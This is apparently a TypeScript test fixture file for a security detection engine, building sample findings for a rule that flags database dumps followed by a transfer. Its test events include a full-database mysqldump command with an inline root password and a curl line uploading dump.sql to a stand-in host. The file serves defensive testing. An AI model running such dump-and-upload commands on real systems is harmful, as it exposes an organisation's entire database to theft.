import type { Decision, Hit } from '../../lib/correlation/index.ts';
import type { FieldTable, JsonObject, LogEvent } from '../../lib/event/index.ts';
import { type EventView, type Finding, type FindingParts, makeFinding } from '../../lib/finding/index.ts';
import type { RuleMeta } from '../../lib/rule/index.ts';

/** 2026-03-01T00:00:00Z */
export const midnight = 1_772_323_200_000_000;
export const second = 1_000_000;

/** A table for test events, whose records are ECS documents. */
export const ecsTable: FieldTable = {
  source: 'ecs',
  ecs: {},
  vendorRoots: [[]],
  knowsVendorName: () => true,
  isEcs: true,
};

export function rule(change: Partial<RuleMeta> = {}): RuleMeta {
  return {
    id: 'db-dump',
    name: '',
    title: 'Database dumped by {{ user.name }}',
    description: '{{ process.name }} ran on {{ host.name }} as `{{ process.command_line }}`.',
    severity: 'high',
    language: 'sigma',
    maturity: 'test',
    author: 'weir',
    tags: [],
    attack: { tactics: ['collection'], techniques: ['T1213.006'] },
    guidance: {
      why: 'Whoever has the dump of {{ host.name }} has all of its rows.',
      severityReason: 'Dumps are also taken by {{ user.name }} for good reasons.',
      triage: ['Ask {{ user.name }} about {{ file.path }}'],
      falsePositives: ['Backups'],
      response: ['Isolate {{ host.name }}'],
      references: ['https://attack.mitre.org/techniques/T1213/006/'],
    },
    span: { path: 'rules/db-dump.yml', line: 1, column: 1, endLine: 1, endColumn: 1 },
    ...change,
  };
}

export function hit(event: string, time = midnight, leg = 0): Hit {
  return { time, sequence: 0, event, leg, values: [], basis: 0, retracted: false };
}

export function view(id: string, fields: JsonObject, time = midnight): EventView {
  const event: LogEvent = {
    id,
    time,
    sequence: 0,
    arrival: time,
    source: 'ecs',
    logSource: {},
    fields,
    text: JSON.stringify(fields),
    origin: {
      account: '123456789012',
      region: 'eu-west-1',
      logGroup: '/db/audit',
      logStream: 'i-0abc',
      file: '',
      line: 0,
      recordId: '',
    },
  };
  return { event, table: ecsTable };
}

export const dumpFields: JsonObject = {
  host: { name: 'db-3' },
  user: { name: 'deploy' },
  process: { name: 'mysqldump', command_line: 'mysqldump -u root -pS3cr3tPw --all-databases' },
};

export function decision(change: Partial<Decision> = {}): Decision {
  const hits = change.hits ?? [hit('e1')];
  return {
    findingId: 'f1',
    rule: 'db-dump',
    key: ['db-3', 'deploy'],
    keyNames: ['host', 'user'],
    qualifiedAt: midnight,
    late: false,
    hits,
    capped: false,
    holds: true,
    basis: { hits: hits.length, closed: false },
    closesAt: midnight + 3600 * second,
    measures: {},
    ...change,
  };
}

export function parts(change: Partial<FindingParts> = {}): FindingParts {
  return {
    rule: rule(),
    decision: decision(),
    legNames: [],
    events: new Map([['e1', view('e1', dumpFields)]]),
    staged: false,
    missing: [],
    ...change,
  };
}

export function finding(change: Partial<Finding> = {}): Finding {
  return { ...makeFinding(parts()), ...change };
}

/** A finding of two legs, as a person would get it. */
export function makeDump(): Finding {
  const sent = { ...dumpFields, process: { name: 'curl', command_line: 'curl -T dump.sql https://files.example' } };
  return makeFinding(
    parts({
      decision: decision({ hits: [hit('e1'), hit('e2', midnight + 60 * second, 1)], measures: { rules: 2 } }),
      legNames: ['dump', 'transfer'],
      events: new Map([
        ['e1', view('e1', dumpFields)],
        ['e2', view('e2', sent, midnight + 60 * second)],
      ]),
      missing: ['No network telemetry of db-3.'],
    }),
  );
}
